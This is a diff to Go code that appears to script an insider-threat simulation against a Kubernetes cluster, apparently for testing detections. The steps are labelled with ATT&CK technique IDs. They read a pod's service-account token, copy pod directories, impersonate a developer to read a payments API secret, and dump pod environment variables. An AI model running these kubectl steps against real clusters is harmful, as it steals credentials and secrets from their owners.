@@ -79,7 +79,7 @@ func curious(s *stage.Stage, tom *stage.Actor) {
 	api := s.Pod("payments", "app=api")
 	var token string
 	s.Attack("T1552.007", "Credential Access: Access container service account", "reads the token of "+api.String()+" by exec through a shell").
-		As(tom).Do(func(a *stage.Act) {
+		On(api).As(tom).Do(func(a *stage.Act) {
 		token = a.Must("-n", "payments", "exec", api.Name, "--", "sh", "-c", "cat "+stage.TokenFile)
 	})
 	s.Attack("T1550.001", "Credential Access: Access container service account", "has the token checked and uses it on his own machine").
@@ -92,7 +92,7 @@ func curious(s *stage.Stage, tom *stage.Actor) {
 		a.Request(kubectlAgent, "POST", "/apis/authentication.k8s.io/v1/tokenreviews", `{"apiVersion":"authentication.k8s.io/v1","kind":"TokenReview","spec":{"token":"`+strings.TrimSpace(token)+`"}}`)
 	})
 	s.Attack("T1005", "Collection: Collecting data from pod", "packs a directory of "+api.String()+" and takes it away").
-		As(tom).Do(func(a *stage.Act) {
+		On(api).As(tom).Do(func(a *stage.Act) {
 		a.Kubectl("-n", "payments", "exec", api.Name, "--", "tar", "czf", "-", "/etc", "/srv")
 	})
 	s.Attack("T1005", "Collection: Collecting data from pod", "takes all logs of payments").
@@ -141,7 +141,7 @@ func diverting(s *stage.Stage, tom *stage.Actor) {
 // borrowing takes rights that are not his.
 func borrowing(s *stage.Stage, tom *stage.Actor) {
 	s.Attack("T1134", "Privilege Escalation: Impersonation", "acts as a developer of payments").
-		As(tom).Do(func(a *stage.Act) {
+		As(tom).Assuming("anna.keller").Do(func(a *stage.Act) {
 		a.Must("--as=anna.keller", "--as-group=devs-payments", "-n", "payments", "get", "secret", "stripe-key", "-o", "jsonpath={.data}")
 	})
 	s.Attack("T1098.006", "Privilege Escalation: Cluster-admin binding", "gives himself the role edit in payments").
@@ -159,7 +159,7 @@ func borrowing(s *stage.Stage, tom *stage.Actor) {
 	})
 	own := s.PodNamed("payments", "tom-test")
 	s.Attack("T1552.007", "Credential Access: Mount service principal", "prints the environment of his pod, which is the secret").
-		As(tom).Do(func(a *stage.Act) { a.Must("-n", "payments", "exec", own.Name, "--", "env") })
+		On(own).As(tom).Do(func(a *stage.Act) { a.Must("-n", "payments", "exec", own.Name, "--", "env") })
 	s.Attack("T1078", "Privilege Escalation: Cluster-admin binding", "tries what would be more, without doing it (dry run)").
 		As(tom).Do(func(a *stage.Act) {
 		a.Kubectl("create", "clusterrolebinding", "oncall", "--clusterrole=cluster-admin", "--user=tom.brandt", "--dry-run=server")
